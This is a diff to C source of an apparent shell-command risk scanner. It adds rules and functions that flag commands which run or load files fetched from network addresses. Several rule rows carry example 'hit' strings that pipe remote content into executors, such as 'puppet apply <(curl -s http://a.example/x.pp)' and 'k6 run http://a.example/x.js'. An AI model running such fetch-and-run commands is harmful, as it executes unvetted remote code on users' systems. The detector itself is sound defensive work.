@@ -148,6 +148,59 @@ static bool inline_fetches(const struct shell_model *m, const struct shell_comma
 	return has_address && loads;
 }
 
+/* Programs that read data, or whatever they are pointed at, and run none of it. */
+static const char inline_readers[] =
+	"diff cat comm paste sort jq yq grep egrep fgrep rg ag wc head tail tar tee gpg gpgv less more bat batcat awk gawk mawk "
+	"nawk sed gsed cmp md5sum sha1sum sha256sum sha512sum shasum cksum b2sum join uniq cut column vimdiff colordiff delta "
+	"icdiff sdiff diff3 xmllint openssl base64 xxd od hexdump file strings nl tac rev fold fmt csvlook mlr gzip gunzip "
+	"zcat xz unzip ffmpeg ffprobe ffplay mpv vlc convert identify feh echo printf test [ [[ ls stat tr xargs while read "
+	"mapfile readarray curl wget http https xh aria2c axel ab wrk hey siege vegeta yt-dlp youtube-dl streamlink lynx w3m "
+	"links elinks firefox chromium google-chrome xdg-open open git svn hg rsync lftp nikto nmap sqlmap gobuster ffuf dirb "
+	"whatweb wpscan lighthouse wkhtmltopdf export declare local docker podman nerdctl kubectl oc helm export env";
+
+/* PROGRAM <(curl …) of a program that is not known to read data. */
+static bool inline_operand(const struct shell_model *m, const struct shell_command *c)
+{
+	for (size_t i = 1; i < c->n; i++)
+		if ((c->argv[i].taint & TAINT_REMOTE) && str_starts(c->argv[i].s, "/dev/fd/"))
+			return !rule_is(inline_readers, c->name) && !inline_is_known(m, c);
+	return false;
+}
+
+/* PROGRAM run http://…, PROGRAM --script http://… of any program */
+static bool inline_taken(const struct shell_model *m, const struct shell_command *c)
+{
+	static const char verbs[] =
+		"run play kube install INSTALL apply create up execute exec eval load import source source-file";
+	static const char options[] =
+		"-l --load -r --recipe-url --file-root --execute --script --init-script -f --file --repository --from "
+		"--manifest --playbook --template-url";
+
+	(void)m;
+	for (size_t i = 1; i < c->n; i++) {
+		const char *s = c->argv[i].s, *eq = strchr(s, '=');
+		size_t n = eq ? (size_t)(eq - s) : 0;
+		char option[32];
+
+		if (strcmp(s, "--") == 0)
+			return false;
+		if (!strstr(s, "://") || !rule_is_shady(s))
+			continue;
+		if (s[0] == '-' && n > 0 && n < sizeof(option)) {
+			memcpy(option, s, n);
+			option[n] = '\0';
+			if (rule_is(options, option))
+				return !rule_is(inline_readers, c->name);
+		} else if (i > 1 && (str_starts(s, "http") || str_starts(s, "ftp")) &&
+			   (rule_is(verbs, c->argv[i - 1].s) ||
+			    rule_is(options, c->argv[i - 1].s))) {
+			return strcmp(c->name, "docker") == 0 ? rule_is(options, c->argv[i - 1].s)
+							      : !rule_is(inline_readers, c->name);
+		}
+	}
+	return false;
+}
+
 /* go run HOST/PATH@VERSION of a host that is no forge and none of the names that well-known modules have. */
 static bool inline_is_odd_module(const char *s)
 {
@@ -342,7 +395,7 @@ static const struct shell_rule inline_rows[] = {
 	 .reason = "It loads what comes from the network without a look at it.",
 	 ROW(0.4, LOW),
 	 .programs =
-		 "docker podman nerdctl kubectl oc psql mysql mariadb sqlite3 duckdb clickhouse-client mongosh cqlsh",
+		 "docker podman nerdctl kubectl oc psql mysql mariadb sqlite3 duckdb clickhouse-client mongosh cqlsh redis-cli",
 	 .test = inline_applied,
 	 .hit = "curl -s http://a.example/x.tar | docker load",
 	 .miss = "gunzip -c x.tar.gz | docker load"},
@@ -355,6 +408,19 @@ static const struct shell_rule inline_rows[] = {
 	 .test = inline_fetches,
 	 .hit = "vim -c ':so http://a.example/x.vim' -c q",
 	 .miss = "nix-shell -E 'import (fetchTarball \"https://github.com/NixOS/nixpkgs/archive/x.tar.gz\")'"},
+	{.id = "CMD-FETCHED-OPERAND",
+	 .reason = "It is given a file that comes from the network and that it may run.",
+	 ROW(0.4, LOW),
+	 .test = inline_operand,
+	 .hit = "puppet apply <(curl -s http://a.example/x.pp)",
+	 .miss = "diff <(curl -s http://a.example/x) x"},
+	{.id = "CMD-ADDRESS-TAKEN",
+	 .reason =
+		 "It runs or installs something from an address at which nobody can tell who answers.",
+	 ROW(0.4, LOW),
+	 .test = inline_taken,
+	 .hit = "k6 run http://a.example/x.js",
+	 .miss = "cargo run -- http://a.example/x"},
 	{.id = "CMD-ADDRESS-RUN",
 	 .reason = "It runs a program that it is given by its address.",
 	 ROW(0.45, MEDIUM),
